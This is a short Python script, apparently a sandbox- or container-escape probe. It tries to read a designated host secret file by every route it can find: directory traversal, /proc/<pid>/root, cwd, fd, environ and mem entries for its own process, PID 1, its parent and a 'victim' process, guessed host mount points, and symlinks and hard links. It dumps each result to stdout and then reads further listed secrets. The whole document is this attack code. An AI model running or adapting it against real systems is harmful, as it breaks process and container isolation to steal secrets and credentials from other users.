"""Reads a file of the host by every way there: by its path, around the root, through other processes, by links."""

path = TARGET["secret"]
folder, name = os.path.split(path)
ways = [path, "../" * 40 + path, "/./" + path, f"//{path}", "/proc/self/cwd/../../.." + path, f"/dev/fd/3{path}"]
for pid in ("self", "1", str(os.getppid()), str(TARGET["victim"]), "thread-self"):
    ways += [f"/proc/{pid}/root{path}", f"/proc/{pid}/cwd{path}", f"/proc/{pid}/environ", f"/proc/{pid}/mem"]
    ways += [f"/proc/{pid}/fd/{fd}" for fd in range(16)] + [f"/proc/{pid}/fd/{fd}{path}" for fd in range(16)]
for base in ("/oldroot", "/newroot", "/.oldroot", "/mnt", "/host", "/proc/1/root/proc/1/root"):
    ways.append(base + path)
for way in ways:
    os.write(1, read(way)[:2000])
quietly(os.symlink, path, "link")
quietly(os.link, path, "hard")
for way in ("link", "hard"):
    os.write(1, read(way)[:2000])
for other in TARGET["secrets"]:
    os.write(1, read(other)[:2000])
